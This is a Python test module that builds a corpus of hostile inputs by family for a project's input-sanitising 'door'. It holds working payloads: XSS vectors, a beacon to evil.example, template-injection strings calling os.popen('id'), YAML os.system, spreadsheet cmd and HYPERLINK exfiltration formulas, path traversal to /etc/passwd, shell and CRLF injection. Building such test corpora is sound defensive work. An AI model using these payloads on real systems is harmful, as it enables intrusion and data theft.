"""The project's own corpus of hostile texts, by family: what somebody may type, or a page that is captured may hold.

Texts that the door takes are shown as text, whatever they say; those that it refuses (`REFUSED`) are refused with
their place. Each family is written as parts that are put together, so that a new idea is one line.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator, Mapping
from urllib.parse import quote

# What would show that something ran: it asks a host that is not there, and writes into the page.
RUN = "window.ran=1;new Image().src='https://evil.example/ran'"
CALL = "alert(1)"


def _tags() -> Iterator[str]:
    for tag in (
        "script",
        "SCRIPT",
        "ScRiPt",
        "script/x",
        "script\n",
        "script\t",
        "script x=1",
        "svg:script",
        "x:script",
    ):
        yield f"<{tag}>{RUN}</{tag.split()[0].split('/')[0]}>"
    yield from (f"<script src=https://evil.example/{n}.js></script>" for n in ("a", "b\"'"))
    for tag in ("iframe", "object", "embed", "frame", "applet", "portal", "fencedframe", "webview"):
        yield f'<{tag} src="javascript:{CALL}" srcdoc="<script>{CALL}</script>" data="javascript:{CALL}">'
    for tag, event in (
        ("img", "error"), ("svg", "load"), ("body", "load"), ("video", "error"), ("audio", "error"), ("input", "focus"), ("select", "focus"), ("details", "toggle"),
        ("marquee", "start"), ("style", "load"), ("link", "error"), ("object", "error"), ("iframe", "load"), ("form", "submit"), ("button", "click"), ("a", "mouseover"),
        ("math", "click"), ("isindex", "focus"), ("textarea", "focus"), ("keygen", "focus"), ("source", "error"), ("track", "error"), ("dialog", "close"), ("menu", "click"),
        ("animate", "begin"), ("set", "begin"), ("xss", "pointerenter"), ("p", "animationstart"), ("div", "beforematch"), ("bdi", "contextmenu"), ("q", "copy"),
    ):  # fmt: skip
        yield f"<{tag} src=x on{event}={CALL} autofocus tabindex=1 open>"
    for tag in (
        "title",
        "textarea",
        "style",
        "noscript",
        "noembed",
        "noframes",
        "xmp",
        "plaintext",
        "iframe",
        "template",
        "select",
        "table",
        "option",
        "bdi",
        "main",
        "body",
        "html",
        "head",
    ):
        yield f"</{tag}><img src=x onerror={CALL}>"
        yield f"<{tag}><img src=x onerror={CALL}></{tag}>"
    yield from ("<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example/>", "<meta charset=utf-7>", "<link rel=stylesheet href=//evil.example/x.css>",
                "<link rel=import href=data:text/html,x>", "<form action=//evil.example><input name=x>", "<button formaction=javascript:alert(1)>", "<input type=image formaction=//evil.example>",
                "<style>@import'//evil.example/x.css'</style>", "<style>*{background:url(//evil.example/)}</style>", "<p style=background:url(//evil.example)>", "<img src=//evil.example/x.png>",
                "<image src=//evil.example/x>", "<table background=//evil.example/x>", "<video poster=//evil.example/x>", "<a href=javascript:alert(1)>x</a>", "<a ping=//evil.example/ href=#>x</a>",
                "<a href=x target=_blank rel=opener>x</a>", "<map><area href=javascript:alert(1)></map>", "<dialog open>x</dialog>", "<slot>x</slot>", "<template shadowrootmode=open><script>alert(1)</script></template>")  # fmt: skip


def _breaks() -> Iterator[str]:
    """Ways out of where a text stands: of a comment, a declaration, an attribute, a raw text, an entity."""
    yield from ("-->", "--!>", "<!--", "<!-->", "<!--->", "<!---!>", "]]>", "<![CDATA[", "<![CDATA[x]]><script>alert(1)</script>", "?>", "<?php echo 1 ?>", "<?xml version='1.0'?>", "<%= 7*7 %>", "%>",
                "<!DOCTYPE html>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "&x;", "&", "&&", "&amp;", "&amp;lt;", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;",
                "&#0;", "&#x110000;", "&#xd800;", "&#128;", "&notit;", "&lt", "&LT;", "&nbsp;", "&ZeroWidthSpace;", "&colon;", "javascript&colon;alert(1)", "&#106avascript:", "<", ">", "<>", "</>", "< script>", "<\u00a0script>",
                "<a", "<a b", "<a b=", "<a b='", '<a b="', "</a", "<!", "<?", "<\\", "\\x3cscript\\x3e", "\\u003cscript\\u003e", "\\74script\\76", "+ADw-script+AD4-", "%3Cscript%3E", "%253Cscript%253E", "\u2039script\u203a", "\uff1cscript\uff1e", "\u02c2script\u02c3")  # fmt: skip
    for end in (
        '"',
        "'",
        "`",
        "\"'",
        "'\"",
        '">',
        "'>",
        '"/>',
        '" ',
        "' ",
        "\" x='",
        '"\n',
        "&quot;",
        "&#34;",
        "&apos;",
        '\\"',
        "\\'",
        "\u201c",
        "\u2033",
        "\uff02",
    ):
        yield f"{end}onmouseover={CALL} x="
        yield f"{end}><script>{CALL}</script>"
        yield f"{end} autofocus onfocus={CALL} style=position:fixed;inset:0 "


def _urls() -> Iterator[str]:
    for scheme in ("javascript", "JaVaScRiPt", " javascript", "java\tscript", "java\nscript", "javascript\u200b", "java&#115;cript", "java%73cript", "vbscript", "livescript", "data", "view-source", "blob", "file",
                   "filesystem", "intent", "about", "ws", "ftp", "feed:javascript", "jar:https", "mhtml:file", "x-javascript", "java\u0130script", "\u2028javascript", "urn", "tel", "sms"):  # fmt: skip
        yield f"{scheme}:{CALL}"
        yield f"[x]({scheme}:{CALL})"
    yield from ("//evil.example/", "\\\\evil.example\\", "/\\evil.example/", "///evil.example", "https:evil.example", "https:/evil.example", "http://evil.example%2f@desk.example/", "https://desk.example@evil.example/",
                "https://desk.example\\@evil.example", "https://evil.example/\u202eelpmaxe.ksed", "https://\u0435vil.example/", "https://xn--80ak6aa92e.com/", "https://evil.example#@desk.example", "https://0x7f.1/", "https://2130706433/",
                "https://[::1]/", "https://localhost:8000/__preview__/decide", "data:text/html,<script>alert(1)</script>", "data:text/html;base64," + base64.b64encode(b"<script>alert(1)</script>").decode(),
                "data:image/svg+xml,<svg onload=alert(1)>", "?x=<script>", "#<img src=x onerror=alert(1)>", "../../../etc/passwd", "%2e%2e%2fetc", "mailto:x@evil.example?bcc=y&body=<script>", "\x20https://evil.example")  # fmt: skip


def _templates() -> Iterator[str]:
    yield from ("{{ 7*7 }}", "{{7*'7'}}", "{% raw %}", "{% endraw %}", "{% endblock %}", "{% include '/etc/passwd' %}", "{% extends 'x' %}", "{# x #}", "{{", "}}", "{%", "%}", "{{ site.__class__.__mro__ }}",
                "{{ config.items() }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ lipsum.__globals__['os'].system('id') }}", "{{ self }}", "{{ range(10**9) }}",
                "{{ x|safe }}", "{{ '<script>'|safe }}", "{{ graph.content }}", "{% for x in ().__class__.__bases__ %}x{% endfor %}", "{% set site = 1 %}", "{% macro claim(c) %}{% endmacro %}", "{%- -%}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
                "${{7*7}}", "@(7*7)", "{{constructor.constructor('alert(1)')()}}", "[[7*7]]", "{{=7*7}}", "*{7*7}", "~{x}", "{{#with x}}", "{{> x}}", "{{{x}}}", "<#assign x=1>", "$x", "%(x)s", "%s%n", "{0.__class__}", "{}", "{!r}", "\\N{x}",
                "{title}", "{headers}", "{folder}", "\x5c{{ 7*7 }}")  # fmt: skip


def _markdown() -> Iterator[str]:
    yield from ("[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x]: javascript:alert(1)\n\n[x]", "![x](javascript:alert(1))", "![x\"onerror=alert(1) y](a)", "[x](a \"t\\\" onclick=alert(1)\")", "<javascript:alert(1)>",
                "<https://evil.example/\"onclick=alert(1)>", "[a](https://x.example/\"onmouseover=alert(1))", "![](https://evil.example/track.png)", "[[x|<script>alert(1)</script>]]", "[[actor:x\"onclick=alert(1)|y]]", "[[brief:../../x]]",
                "[[[[x]]]]", "[[x", "x]]", "[[|]]", "[[fact:#]]", "```html\n<script>alert(1)</script>\n```", "```\"onclick=alert(1)\nx\n```", "~~~", "`<script>alert(1)</script>`", "``", "    <script>alert(1)</script>", "> <script>alert(1)</script>",
                "* <img src=x onerror=alert(1)>", "1. <b>", "9999999999. x", "# <script>", "<script>\n\nalert(1)\n\n</script>", "<div>\n*x*\n</div>", "a | b\n-|-\n<script> | x", "|\"onclick=alert(1)|\n|:-:|", "***", "---", "___", "===", "\\<script>", "\\[x](y)",
                "![x][y]\n\n[y]: data:text/html,x", "[x]:/ 'y", "<!-- x -->", "<![CDATA[x]]>", "<?x?>", "&#x6A;avascript:alert(1)", "[x](&#x6A;avascript:alert(1))", "[x](%6Aavascript:alert(1))", "*" * 40, "_" * 40, "[" * 40, "(" * 40, "`" * 40, ">" * 40,
                "~~x~~", "^[x]", "[^1]: x", "$$x$$", "H~2~O", ":smile:", "<details open ontoggle=alert(1)>", "autolink https://evil.example/<script>", "www.evil.example", "x@evil.example", "\\\n", "a  \nb")  # fmt: skip


def _yaml() -> Iterator[str]:
    yield from ("- x", "x: y", "x: y: z", "? x", ": x", "# x", "x # y", "!!python/object/apply:os.system ['id']", "!!binary x", "!x", "&a x", "*a", "<<: *a", "{x: y}", "[x, y]", "---", "...", "--- x", "|", ">", "|-\n  x", "'", '"', "''", '""', "@x", "`x", "%YAML 1.1",
                "%TAG ! x", "null", "~", "true", "no", "on", "y", "0x1F", "1e9", "1_000", "0o17", ".inf", ".nan", "2026-11-22", "2026-11-22T09:00:00Z", "12:30:45", "=", "\\x41", "\\u202e", "\\0", "x\\", "x: |\n  y", "title: forged\nstatus: published",
                "---\ntitle: forged\n---\n", "marking: TLP:CLEAR", "review:", " leading", "trailing ", "a\tb", "a\n\n\nb", "- - - x", "key: [unclosed", "key: 'unclosed", "a\u2028b", "a\u2029b")  # fmt: skip


def _formulas() -> Iterator[str]:
    for sign in ("=", "+", "-", "@", "\t=", "\n=", "'=", '"=', ";=", ",=", " =", "\uff1d"):
        yield f"{sign}cmd|' /C calc'!A0"
        yield f'{sign}HYPERLINK("https://evil.example/?x="&A1,"x")'
    yield from ("=1+1", "=SUM(A1:A9)", "=IMPORTXML(\"https://evil.example\",\"//x\")", "=WEBSERVICE(\"https://evil.example\")", "@SUM(1)", "+1+1", "-1+1", "=DDE(\"cmd\")", "a,b;c\td|e", 'a","b', "a\n=1")  # fmt: skip


def _bidi() -> Iterator[str]:
    for control in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068":
        yield f"a{control}b"
        yield f"{control}"
        yield f"{control}<script>{CALL}</script>"
    for control in "\u202c\u2069\u200e\u200f\u061c":
        yield f"a{control}b{control}"
    yield from ("\u2069\u202eevil", "\u2066\u202e\u2069\u202e", "\u202eelpmaxe.ksed//:sptth", "א\u202eab", "\u2067א", "\u202b\u202e\u2067x\u2069", "\u202e" * 130, "\u2066" * 130, "\u2069" * 130, "שלום (a) 1,2", "مرحبا <b>", "a\u202ex\u202cb", "\u2067x\u2069", "\u202e\n\nx", "evil\u202etxt.exe")  # fmt: skip


def _unicode() -> Iterator[str]:
    yield from ("\u200b", "a\u200bb", "\u00ad", "\u2060", "\ufeffx", "x\ufeff", "\u3164", "\u115f", "\u180e", "\u034f", "e\u0301", "\u00e9", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d", "o" + "\u0300" * 140, "\U000e0041\U000e0042", "\ufe0f", "👩\u200d👩\u200d👧", "🏴\U000e0067\U000e0062\U000e007f",
                "\u0430dmin", "pаypal", "ⓢⓒⓡⓘⓟⓣ", "＜ｓｃｒｉｐｔ＞", "ſcript", "İ", "ı", "ß", "ŉ", "ﬁ", "Ǆ", "K", "Å", "\u1e9e", "\ufb03", "㎏", "\U0001d4d0", "\U0010fffd", "\ue000", "\U000f0000", "\ufffd", "\u2024\u2024/", "\u2215etc\u2215passwd", "\u29f8", "\u0338<", "<\u0338script>", "\u1680x", "\u205fx", "\u00a0x", "x\u3000y",
                "\u06dd١٢", "١٢٣", "१२", "𝟙𝟚", "\u0600", "\u17b4", "\u2800", "\ufff9x\ufffay\ufffb", "\u20e3", "\u1160", "漢字", "가", "\u1100\u1161", "ไทย", "\U00020000", "\u0f0c", "\u0e33", "a" * 900, "\u0301x", "\u093c")  # fmt: skip


def _paths() -> Iterator[str]:
    yield from ("../x", "../../../../etc/passwd", "..", ".", "/etc/passwd", "\\\\host\\share", "C:\\x", "c:/x", "a/../../b", "a//b", "./a", "~/x", "~root", "%2e%2e/", "..%2f", "..%5c", "..\\..\\x", "....//", "nul", "con", "aux.txt", "com1", "lpt9.html", "a:b", "a::$DATA",
                "a?b", "a*b", "a|b", 'a"b', "a<b>", "a.", "a ", " a", "-rf", "--help", "-oProxyCommand=x", ".git", ".htaccess", "_headers", "index.html", "404", "site", "briefgen-manifest.json", "a" * 300, "é" * 130, "a;id", "a$(id)", "a`id`", "a|id", "a&&id", "a>b",
                "$HOME", "!x", "#x", "file:///etc/passwd", "ext::sh -c id", "git@x:y", "s3://x/y")  # fmt: skip


def _headers() -> Iterator[str]:
    for end in ("\n", "\n\n", "%0a", "%0d%0a", "\\r\\n", "\u2028"):
        yield f"x{end}Set-Cookie: a=b"
        yield f"/x{end}/* https://evil.example/:splat 200!"
    yield from ("/* /evil 301", "x 200", "x: y", "Content-Type: text/html", "HTTP/1.1 200 OK", "::", "*", ":splat", ":x", "User-agent: *\nDisallow: /", "Sitemap: https://evil.example/", "# x", "evil.example", "default-src *; script-src 'unsafe-inline'", "x; frame-ancestors *", "nosniff", "x\"; add_header X y", "}", "} location / { return 200 x; }")  # fmt: skip


def _json() -> Iterator[str]:
    yield from ('"', '\\"', '"}', '"]}', '","x":"y', '{"@context":"https://schema.org"}', '"@type":"ClaimReview"', "</script><script>alert(1)</script>", "<!--<script>", "\\u003c/script>", "\\", "\\\\", "\\u0022", "\u2028alert(1)", "\u2029alert(1)", "__proto__", "constructor", "[object Object]", "undefined", "NaN", "');alert(1)//", "';alert(1)//",
                "`${alert(1)}`", "*/alert(1)/*", "//", "/*", "\\';alert(1)//", "1;alert(1)", "-alert(1)-", "{\"a\":1,\"a\":2}", "[" * 50, "{\"a\":" * 50, "1e400", "-0", "9" * 400, "true", "null")  # fmt: skip


def _others() -> Iterator[str]:
    """What other languages and readers take for orders: shells, stores, styles, feeds, terminals that ask nothing."""
    yield from ("$(id)", "`id`", "; id", "| id", "&& id", "|| id", "%PATH%", "' OR '1'='1", "1; DROP TABLE x--", "\" OR 1=1--", "{$ne: null}", "*)(uid=*", "//*[1]", "expression(alert(1))", "url(javascript:alert(1))", "-moz-binding:url(x)", "@import 'x'", "behavior:url(x)", "\\65xpression(1)", "}*{color:red", "*/", "</style>",
                "<xsl:script>", "<x:include href='file:///etc/passwd' parse='text'/>", "xmlns:x='y'", "<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<a><svg><desc><noscript></noscript></desc></svg></a>", "<select><style></select><script>alert(1)</script>", "<table><td><svg><tr><style><img src=x onerror=alert(1)>", "{\\rtf1", "%!PS", "%PDF-1.7", "GIF89a", "MZ", "#!/bin/sh", "BEGIN:VCALENDAR", "From: x", "\\input{/etc/passwd}", "\\write18{id}",
                "(?:a+)+$", "a{1,99999}", "((((((((((", "[a-z", "%n%s%x", "\\x1b[2J", "^[[31m", "\\033]8;;x", "::set-output name=x::y", "::error file=x::y", "##[error]x", "##vso[task.setvariable]x", "[ERROR] forged", "briefgen: error[x]: forged", "content/briefs/x.md:1:1: error[forged]: x", "0 errors, 0 warnings",
                "Proposed, not read by anybody", "TLP:CLEAR", "Contested", "unknown.", "UNKNOWN", "None", "Undefined", "\u201cquoted\u201d", "\u2018x\u2019", "--", "\u2014", "…", "a  b", "a \n b")  # fmt: skip


FAMILIES: Mapping[str, tuple[str, ...]] = {
    name: tuple(dict.fromkeys(made()))
    for name, made in {
        "markup": _tags, "breaks": _breaks, "urls": _urls, "templates": _templates, "markdown": _markdown, "yaml": _yaml, "formulas": _formulas, "bidi": _bidi, "unicode": _unicode,
        "paths": _paths, "headers": _headers, "json": _json, "others": _others,
    }.items()
}  # fmt: skip


def _forbidden() -> Iterator[str]:
    """Characters that no text holds: terminals, parsers and XML take them for orders, or for an end."""
    for orders in ("[2J", "]0;x\x07", "]8;;https://evil.example\x07x", "[31m", "P+q\x1b\\", "c", "_x\x1b\\", "[6n"):
        yield f"a\x1b{orders}"
    yield from ("x\r\nSet-Cookie: a=b", "x\rSet-Cookie: a=b")
    yield from (f"a{chr(code)}b" for code in (*range(9), 11, 12, *range(14, 32), *range(127, 160)))
    yield from (f"a{character}b" for character in ("\ufdd0", "\ufffe", "\uffff", "\U0001fffe", "\U0010ffff"))


REFUSED: tuple[str, ...] = tuple(_forbidden())
ALL: tuple[str, ...] = tuple(dict.fromkeys(text for texts in FAMILIES.values() for text in texts))
SPELT_FOR_ADDRESSES: tuple[str, ...] = tuple(f"https://a.example/?q={quote(text)}" for text in ALL)
